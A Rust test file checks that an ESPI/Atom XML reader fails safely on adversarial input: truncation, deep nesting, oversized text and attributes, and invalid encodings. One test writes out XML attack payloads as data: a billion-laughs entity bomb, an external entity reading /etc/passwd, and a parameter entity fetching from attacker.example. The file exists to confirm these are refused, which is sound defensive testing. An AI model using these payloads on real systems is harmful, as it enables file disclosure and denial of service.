//! Adversarial input: truncated real samples, DTDs and entities, extreme
//! nesting, huge text and attributes generated lazily (never allocated), long
//! numbers, invalid UTF-8 and other encodings. Every case ends in entries, a
//! diagnostic or a positioned, bounded error: never a panic, a stack overflow or
//! memory that grows with the input.

use espi_model::resource::Resource;
use espi_xml::{DiagnosticKind, EntryReader, Error, Mode, ReaderLimits, ReaderOptions};
use std::io::{self, BufReader, Read};
use std::path::{Path, PathBuf};

const ATOM: &str = "http://www.w3.org/2005/Atom";
const ESPI: &str = "http://naesb.org/espi";

/// Reads everything; returns the entries read and the error that ended the reading.
fn read_all<R: io::BufRead>(input: R, options: ReaderOptions) -> (usize, Option<Error>) {
    let mut entries = 0;
    for entry in EntryReader::with_options(input, options) {
        match entry {
            Ok(_) => entries += 1,
            Err(error) => return (entries, Some(error)),
        }
    }
    (entries, None)
}

fn error_of(bytes: &[u8], options: ReaderOptions) -> Error {
    match read_all(bytes, options) {
        (_, Some(error)) => error,
        (entries, None) => panic!(
            "read {entries} entries without an error: {}",
            String::from_utf8_lossy(&bytes[..bytes.len().min(300)])
        ),
    }
}

fn limit_message(error: &Error) -> &str {
    match error {
        Error::Limit { message, .. } => message,
        other => panic!("expected a limit error, got {other}"),
    }
}

/// A document generated as it is read: `head`, then `body` `count` times, then
/// `tail`. Counts the bytes handed out, so tests can check how far reading went.
struct Lazy {
    head: Vec<u8>,
    body: Vec<u8>,
    count: u64,
    tail: Vec<u8>,
    /// Bytes handed out so far.
    served: u64,
    /// Where in head / body×count / tail the next byte comes from.
    at: u64,
}

impl Lazy {
    fn new(head: &str, body: &str, count: u64, tail: &str) -> Self {
        Lazy {
            head: head.as_bytes().to_vec(),
            body: body.as_bytes().to_vec(),
            count,
            tail: tail.as_bytes().to_vec(),
            served: 0,
            at: 0,
        }
    }

    fn len(&self) -> u64 {
        self.head.len() as u64 + self.body.len() as u64 * self.count + self.tail.len() as u64
    }
}

impl Read for Lazy {
    fn read(&mut self, out: &mut [u8]) -> io::Result<usize> {
        let mut written = 0;
        let head = self.head.len() as u64;
        let body_end = head + self.body.len() as u64 * self.count;
        while written < out.len() && self.at < self.len() {
            let byte = if self.at < head {
                self.head[self.at as usize]
            } else if self.at < body_end {
                self.body[((self.at - head) % self.body.len() as u64) as usize]
            } else {
                self.tail[(self.at - body_end) as usize]
            };
            out[written] = byte;
            written += 1;
            self.at += 1;
        }
        self.served += written as u64;
        Ok(written)
    }
}

/// Reads a lazy document through a 64 KiB buffer; returns the error and how many bytes
/// the reader pulled from the source.
fn read_lazy(mut lazy: Lazy, options: ReaderOptions) -> (Error, u64) {
    let total = lazy.len();
    let error = {
        let mut input = BufReader::with_capacity(64 * 1024, &mut lazy);
        match read_all(&mut input, options) {
            (_, Some(error)) => error,
            (entries, None) => panic!("read {entries} entries of a {total}-byte document"),
        }
    };
    (error, lazy.served)
}

// ---------------------------------------------------------------- truncation

fn samples() -> Vec<PathBuf> {
    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir)
            .expect("testdata/samples is readable")
            .map(|entry| entry.expect("directory entry").path())
            .collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                walk(&path, out);
            } else {
                out.push(path);
            }
        }
    }
    let mut out = Vec::new();
    walk(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("../testdata/samples"),
        &mut out,
    );
    out
}

/// Files up to this size are cut at every byte; larger ones at a sample of offsets.
const EVERY_OFFSET_UP_TO: usize = 2 * 1024;
/// How many bytes of parsing (summed over cuts) a large file may cost in one normal
/// run: a debug build reads a few MB/s, and cutting at every 997th byte of a 4 MB
/// sample means reading 8 GB. `ESPI_ADVERSARIAL_FULL=1` lifts the budget (every 997th
/// byte and all of the first and last 512 of every file); run it in release:
/// `ESPI_ADVERSARIAL_FULL=1 cargo test --release -p espi-xml --test adversarial`.
const PARSE_BUDGET_PER_FILE: u64 = 6 << 20;

fn budget() -> u64 {
    match std::env::var_os("ESPI_ADVERSARIAL_FULL") {
        Some(value) if value != "0" => u64::MAX,
        _ => PARSE_BUDGET_PER_FILE,
    }
}

/// The offsets at which to cut a file of `len` bytes: all of them for small files;
/// for large ones the first 512, every 997th byte and the last 512, thinned evenly
/// (middle and end) when that would cost more than `budget` bytes of parsing.
fn cuts(len: usize, budget: u64) -> Vec<usize> {
    if len <= EVERY_OFFSET_UP_TO {
        return (0..len).collect();
    }
    let mut cuts: Vec<usize> = (0..512).collect();
    // Each cut costs about its own length: widen the stride until the sum fits, but
    // keep at least eight cuts spread through the middle.
    let mut stride = 997;
    loop {
        let middle = (512..len - 512).step_by(stride);
        let cost: u64 = middle.clone().map(|cut| cut as u64).sum();
        if cost <= budget / 2 || stride > len / 8 {
            cuts.extend(middle);
            break;
        }
        stride = stride * 2 + 1;
    }
    // The last 512 bytes (where the closing tags are), thinned when every cut there
    // costs a whole read.
    let tail_step = (512 * len as u64 / (budget / 2).max(1)).clamp(1, 512) as usize;
    cuts.extend((len - 512..len).step_by(tail_step));
    cuts.push(len - 1);
    cuts
}

#[test]
fn every_sample_cut_anywhere_reads_partially_or_fails_with_a_position() {
    let files = samples();
    assert!(files.len() >= 60, "found {} samples", files.len());
    let mut reads = 0usize;
    for path in &files {
        let bytes = std::fs::read(path).expect("sample is readable");
        // Cutting at or before the last `>` leaves the document unfinished, which must
        // be an error: a partial document is never reported as complete.
        let last_markup = bytes.iter().rposition(|&byte| byte == b'>').unwrap_or(0);
        for cut in cuts(bytes.len(), budget()) {
            for mode in [Mode::Lenient, Mode::Strict] {
                let (_, error) = read_all(&bytes[..cut], ReaderOptions::with_mode(mode));
                reads += 1;
                match error {
                    Some(error) => assert!(
                        error
                            .position()
                            .is_some_and(|position| position.offset <= cut as u64),
                        "{}: cut at {cut} ({mode:?}): error without a position inside the input: {error}",
                        path.display()
                    ),
                    None => assert!(
                        cut > last_markup,
                        "{}: cut at {cut} of {} read as complete",
                        path.display(),
                        bytes.len()
                    ),
                }
            }
        }
    }
    assert!(reads > 40_000, "{reads} reads");
}

#[test]
fn cut_offsets_cover_small_files_whole_and_large_ones_densely() {
    assert_eq!(
        cuts(100, PARSE_BUDGET_PER_FILE),
        (0..100).collect::<Vec<_>>()
    );
    let full = cuts(3_913_366, u64::MAX);
    assert!(full.starts_with(&(0..512).collect::<Vec<_>>()));
    assert!(full.contains(&(512 + 997 * 1000)), "every 997th byte");
    assert_eq!(
        full.iter().filter(|&&cut| cut >= 3_913_366 - 512).count(),
        513
    );
    let budgeted = cuts(3_913_366, PARSE_BUDGET_PER_FILE);
    assert!(budgeted.starts_with(&(0..512).collect::<Vec<_>>()));
    assert!(budgeted.contains(&(3_913_366 - 1)));
    assert!(budgeted.len() > 512 + 8, "{}", budgeted.len());
    let medium = cuts(30_698, PARSE_BUDGET_PER_FILE);
    assert!(
        medium.contains(&(512 + 997)),
        "every 997th byte of a medium file"
    );
}

// ------------------------------------------------------- DTDs and entities

#[test]
fn dtds_and_entities_are_refused_without_expansion() {
    let billion_laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>"#;
    let external = r#"<?xml version="1.0"?>
<!DOCTYPE feed [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title></feed>"#;
    let parameter = r#"<!DOCTYPE feed [ <!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p; ]>
<feed xmlns="http://www.w3.org/2005/Atom"/>"#;
    let external_dtd =
        r#"<!DOCTYPE feed SYSTEM "file:///etc/passwd"><feed xmlns="http://www.w3.org/2005/Atom"/>"#;
    let no_subset = r#"<!DOCTYPE feed><feed xmlns="http://www.w3.org/2005/Atom"/>"#;
    let late = r#"<feed xmlns="http://www.w3.org/2005/Atom"><!DOCTYPE feed></feed>"#;
    for (name, xml) in [
        ("billion laughs", billion_laughs),
        ("external entity", external),
        ("parameter entity", parameter),
        ("external DTD", external_dtd),
        ("DOCTYPE without subset", no_subset),
        ("DOCTYPE inside the root", late),
    ] {
        for mode in [Mode::Lenient, Mode::Strict] {
            let error = error_of(xml.as_bytes(), ReaderOptions::with_mode(mode));
            let text = error.to_string();
            assert!(matches!(error, Error::Xml { .. }), "{name}: {text}");
            assert!(text.contains("DTD"), "{name}: {text}");
            assert!(
                !text.contains("root:"),
                "{name}: nothing of /etc/passwd: {text}"
            );
        }
    }
    // Without a DTD an entity reference is undeclared, whatever it names.
    for reference in ["&lol9;", "&xxe;", "&nbsp;"] {
        let xml = format!("<feed xmlns='{ATOM}'><title>a{reference}b</title></feed>");
        let text = error_of(xml.as_bytes(), ReaderOptions::default()).to_string();
        assert!(text.contains("undeclared entity"), "{reference}: {text}");
    }
}

// ------------------------------------------------------------------ nesting

#[test]
fn a_million_nested_elements_are_a_depth_error_not_a_stack_overflow() {
    let head = format!("<feed xmlns='{ATOM}'>");
    for (body, close) in [("<a>", "</a>"), ("<x:a xmlns:x='urn:x'>", "</x:a>")] {
        let lazy = Lazy::new(&head, body, 1_000_000, close);
        let (error, served) = read_lazy(lazy, ReaderOptions::default());
        let message = limit_message(&error);
        assert!(message.contains("max_depth = 256"), "{message}");
        assert!(served < 1 << 20, "stopped early: {served} bytes read");
        assert_eq!(error.position().map(|position| position.line), Some(1));
    }
    // Inside typed ESPI content as well.
    let head =
        format!("<entry xmlns='{ATOM}'><content><IntervalBlock xmlns='{ESPI}'><IntervalReading>");
    let lazy = Lazy::new(&head, "<value>", 1_000_000, "");
    let (error, _) = read_lazy(lazy, ReaderOptions::default());
    assert!(limit_message(&error).contains("max_depth"), "{error}");
}

#[test]
fn raising_max_depth_still_leaves_raw_xml_bounded() {
    let head = format!("<feed xmlns='{ATOM}'>");
    let limits = ReaderLimits::default().with_max_depth(u32::MAX);
    let lazy = Lazy::new(&head, "<a>", 1_000_000, "");
    let (error, served) = read_lazy(lazy, ReaderOptions::default().with_limits(limits));
    assert!(
        error.to_string().contains("raw XML nested deeper than 256"),
        "{error}"
    );
    assert!(served < 1 << 20, "{served}");
}

#[test]
fn depth_is_counted_exactly() {
    // feed(1) > a(2) > b(3): fine at 3, an error at 2.
    let xml = format!("<feed xmlns='{ATOM}'><a><b/></a></feed>");
    let at =
        |depth| ReaderOptions::default().with_limits(ReaderLimits::default().with_max_depth(depth));
    assert!(read_all(xml.as_bytes(), at(3)).1.is_none());
    let error = error_of(xml.as_bytes(), at(2));
    assert!(limit_message(&error).contains("max_depth = 2"), "{error}");
}

// ---------------------------------------------------------- text and attributes

const GIB: u64 = 1 << 30;

#[test]
fn a_one_gigabyte_text_node_stops_at_max_text_size() {
    let cases = [
        // A typed Atom value, a typed ESPI value, raw XML, and text where none belongs.
        (format!("<feed xmlns='{ATOM}'><id>"), "</id></feed>"),
        (
            format!(
                "<entry xmlns='{ATOM}'><content><IntervalBlock xmlns='{ESPI}'><IntervalReading><value>"
            ),
            "</value></IntervalReading></IntervalBlock></content></entry>",
        ),
        (
            format!("<feed xmlns='{ATOM}'><x:a xmlns:x='urn:x'>"),
            "</x:a></feed>",
        ),
        (format!("<feed xmlns='{ATOM}'>"), "</feed>"),
    ];
    for (head, tail) in &cases {
        for mode in [Mode::Lenient, Mode::Strict] {
            let lazy = Lazy::new(head, "0123456789abcdef", GIB / 16, tail);
            let (error, served) = read_lazy(lazy, ReaderOptions::with_mode(mode));
            let message = limit_message(&error);
            assert!(
                message.contains("max_text_size = 1048576"),
                "{head}: {message}"
            );
            // Stopped within a buffer or two of the limit: memory stayed bounded.
            assert!(served < 3 << 20, "{head}: read {served} bytes");
            // The error points where the text starts.
            assert_eq!(
                error.position().map(|position| position.offset),
                Some(head.len() as u64),
                "{head}"
            );
        }
    }
}

#[test]
fn text_at_the_limit_is_read_and_one_byte_more_is_an_error() {
    let limits = ReaderLimits::default().with_max_text_size(1000);
    let options = ReaderOptions::default().with_limits(limits);
    let xml = |len: usize| {
        format!(
            "<feed xmlns='{ATOM}'><title>{}</title></feed>",
            "t".repeat(len)
        )
    };
    let at_limit = read_all(xml(1000).as_bytes(), options).1;
    assert!(at_limit.is_none(), "{at_limit:?}");
    let error = error_of(xml(1001).as_bytes(), options);
    assert!(
        limit_message(&error).contains("max_text_size = 1000"),
        "{error}"
    );
}

#[test]
fn text_pieced_together_from_references_and_cdata_is_bounded_too() {
    let limits = ReaderLimits::default().with_max_text_size(10_000);
    let options = ReaderOptions::default().with_limits(limits);
    // Each event is small; the element's text grows past the limit.
    for piece in ["a&amp;", "&#x41;", "<![CDATA[abc]]>", "b<!-- c -->"] {
        for (open, close) in [("<title>", "</title>"), ("<x:a xmlns:x='urn:x'>", "</x:a>")] {
            let xml = format!(
                "<feed xmlns='{ATOM}'>{open}{}{close}</feed>",
                piece.repeat(20_000)
            );
            let error = error_of(xml.as_bytes(), options);
            let message = limit_message(&error);
            assert!(
                message.contains("is longer than max_text_size = 10000"),
                "{piece} in {open}: {message}"
            );
        }
    }
}

#[test]
fn a_huge_cdata_section_or_comment_is_bounded_markup() {
    for (open, body, close) in [
        ("<title><![CDATA[", "x", "]]></title>"),
        ("<!--", "x", "-->"),
        ("<?pi ", "x", "?>"),
    ] {
        let head = format!("<feed xmlns='{ATOM}'>{open}");
        let lazy = Lazy::new(&head, body, 100 << 20, &format!("{close}</feed>"));
        let (error, served) = read_lazy(lazy, ReaderOptions::default());
        let message = limit_message(&error);
        assert!(
            message.contains("max_attribute_size = 65536"),
            "{open}: {message}"
        );
        assert!(
            message.contains("max_text_size = 1048576"),
            "{open}: {message}"
        );
        assert!(served < 3 << 20, "{open}: {served}");
    }
}

#[test]
fn a_ten_megabyte_attribute_is_a_bounded_error() {
    let head = format!("<feed xmlns='{ATOM}'><link rel='self' href='");
    let lazy = Lazy::new(&head, "x", 10 << 20, "'/></feed>");
    let (error, served) = read_lazy(lazy, ReaderOptions::default());
    let message = limit_message(&error);
    assert!(message.contains("max_attribute_size = 65536"), "{message}");
    assert!(served < 3 << 20, "read {served} bytes");
    // The error points at the start of the tag.
    let tag = head.find("<link").expect("in head") as u64;
    assert_eq!(error.position().map(|position| position.offset), Some(tag));
}

#[test]
fn an_attribute_just_over_the_limit_is_named_precisely() {
    for size in [65_537usize, 200_000] {
        let xml = format!(
            "<feed xmlns='{ATOM}'><link rel='self' href='{}'/></feed>",
            "h".repeat(size)
        );
        let error = error_of(xml.as_bytes(), ReaderOptions::default());
        let message = limit_message(&error);
        assert!(
            message.contains(&format!(
                "attribute href of <link> is {size} bytes long, over max_attribute_size = 65536"
            )),
            "{message}"
        );
    }
    let at_limit = format!(
        "<feed xmlns='{ATOM}'><link rel='self' href='{}'/></feed>",
        "h".repeat(65_536)
    );
    assert!(
        read_all(at_limit.as_bytes(), ReaderOptions::default())
            .1
            .is_none()
    );
}

// --------------------------------------------------------- entry and document

#[test]
fn entries_and_documents_over_their_limits_stop_there() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../testdata/samples/gba-cmd-test/Meter_Data_12-09-2013_12-15-2013.xml");
    let bytes = std::fs::read(path).expect("sample");
    // Read whole with the defaults.
    let (entries, error) = read_all(&bytes[..], ReaderOptions::default());
    assert!(error.is_none(), "{error:?}");
    let limits = ReaderLimits::default().with_max_entry_size(100_000);
    let (before, error) = read_all(&bytes[..], ReaderOptions::default().with_limits(limits));
    let error = error.expect("the large IntervalBlock entry exceeds 100 000 bytes");
    assert!(
        limit_message(&error).contains("an entry longer than max_entry_size = 100000 bytes"),
        "{error}"
    );
    assert!(
        before < entries,
        "{before} of {entries} entries before the limit"
    );
    let limits = ReaderLimits::default().with_max_document_size(Some(1_000_000));
    let error = error_of(&bytes, ReaderOptions::default().with_limits(limits));
    assert!(
        limit_message(&error).contains("max_document_size = 1000000"),
        "{error}"
    );
    assert!(
        error
            .position()
            .is_some_and(|position| position.offset <= 1_000_000)
    );
    // A root entry is an entry too.
    let entry = format!(
        "<entry xmlns='{ATOM}'><id>{}</id></entry>",
        "i".repeat(5_000)
    );
    let limits = ReaderLimits::default().with_max_entry_size(1_000);
    let error = error_of(
        entry.as_bytes(),
        ReaderOptions::default().with_limits(limits),
    );
    assert!(limit_message(&error).contains("max_entry_size"), "{error}");
}

// ------------------------------------------------------------------ numbers

#[test]
fn a_ten_thousand_digit_number_is_kept_and_reported() {
    let digits = "9".repeat(10_000);
    let xml = format!(
        "<entry xmlns='{ATOM}'><content><IntervalBlock xmlns='{ESPI}'>\
         <IntervalReading><value>{digits}</value></IntervalReading></IntervalBlock></content></entry>"
    );
    let mut reader = EntryReader::new(xml.as_bytes());
    let entry = reader
        .next()
        .expect("one entry")
        .expect("leniently, the value is kept");
    let diagnostics = reader.take_diagnostics();
    assert!(
        diagnostics
            .iter()
            .any(|diagnostic| diagnostic.kind == DiagnosticKind::InvalidValue),
        "{diagnostics:?}"
    );
    let Some(Resource::IntervalBlock(block)) = entry.content.first() else {
        panic!("an IntervalBlock: {:?}", entry.content);
    };
    let reading = &block.interval_reading[0];
    assert_eq!(reading.value, None);
    let kept = &reading.unknown_elements[0];
    assert_eq!(kept.name.local, "value");
    assert_eq!(kept.text(), digits, "kept as written, as raw XML");
    // Strictly it is an error with a position; and a longer one is still bounded.
    let error = error_of(xml.as_bytes(), ReaderOptions::strict());
    assert!(matches!(error, Error::Invalid { .. }), "{error}");
    for digits in [1_000u64, 10 << 20] {
        let head = format!(
            "<entry xmlns='{ATOM}'><content><IntervalBlock xmlns='{ESPI}'><IntervalReading><value>"
        );
        let lazy = Lazy::new(
            &head,
            "7",
            digits,
            "</value></IntervalReading></IntervalBlock></content></entry>",
        );
        if digits < 1 << 20 {
            let mut input = BufReader::new(lazy);
            assert!(read_all(&mut input, ReaderOptions::default()).1.is_none());
        } else {
            let (error, _) = read_lazy(lazy, ReaderOptions::default());
            assert!(limit_message(&error).contains("max_text_size"), "{error}");
        }
    }
}

// ---------------------------------------------------------------- encodings

#[test]
fn invalid_utf8_is_an_error_with_a_position() {
    let cases: [&[u8]; 5] = [
        b"<feed xmlns='http://www.w3.org/2005/Atom'><title>a\xFFb</title></feed>",
        b"<feed xmlns='http://www.w3.org/2005/Atom'><title>caf\xC3</title></feed>",
        b"<feed xmlns='http://www.w3.org/2005/Atom'><ti\xE9tle/></feed>",
        b"<feed xmlns='http://www.w3.org/2005/Atom'><link rel='self' href='\xED\xA0\x80'/></feed>",
        b"<feed xmlns='http://www.w3.org/2005/Atom'>\n<!-- \xC0\xAF --></feed>",
    ];
    for bytes in cases {
        for mode in [Mode::Lenient, Mode::Strict] {
            let error = error_of(bytes, ReaderOptions::with_mode(mode));
            assert!(matches!(error, Error::Xml { .. }), "{error}");
            let position = error.position().expect("a position");
            assert!(position.offset <= bytes.len() as u64, "{error}");
            assert!(
                error.to_string().to_lowercase().contains("utf"),
                "says it is an encoding problem: {error}"
            );
        }
    }
}

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    let units = bom
        .then_some(0xFEFFu16)
        .into_iter()
        .chain(text.encode_utf16());
    for unit in units {
        let bytes = if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        };
        out.extend_from_slice(&bytes);
    }
    out
}

#[test]
fn utf16_and_utf32_are_refused_naming_the_encoding() {
    let xml = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?><feed xmlns='{ATOM}'/>");
    for (big_endian, bom, name) in [
        (false, true, "UTF-16LE (byte order mark FF FE)"),
        (true, true, "UTF-16BE (byte order mark FE FF)"),
        (false, false, "UTF-16LE (no byte order mark)"),
        (true, false, "UTF-16BE (no byte order mark)"),
    ] {
        let bytes = utf16(&xml, big_endian, bom);
        // Even when the input arrives one byte at a time, the first bytes decide.
        let error = error_of(&bytes, ReaderOptions::default());
        assert!(matches!(error, Error::Xml { .. }), "{error}");
        let text = error.to_string();
        assert!(text.contains(name), "{name}: {text}");
        assert!(text.contains("only UTF-8 is read"), "{text}");
        assert_eq!(error.position().map(|position| position.offset), Some(0));
    }
    let utf32: Vec<u8> = xml.chars().flat_map(|c| (c as u32).to_le_bytes()).collect();
    let text = error_of(
        &[&[0xFF, 0xFE, 0, 0][..], &utf32].concat(),
        ReaderOptions::default(),
    )
    .to_string();
    assert!(text.contains("UTF-32LE (byte order mark"), "{text}");
    let text = error_of(&utf32, ReaderOptions::default()).to_string();
    assert!(text.contains("UTF-32LE (no byte order mark)"), "{text}");
    // A UTF-8 byte order mark is fine.
    let bom = [
        &b"\xEF\xBB\xBF"[..],
        xml.replace("UTF-16", "UTF-8").as_bytes(),
    ]
    .concat();
    assert!(read_all(&bom[..], ReaderOptions::strict()).1.is_none());
}
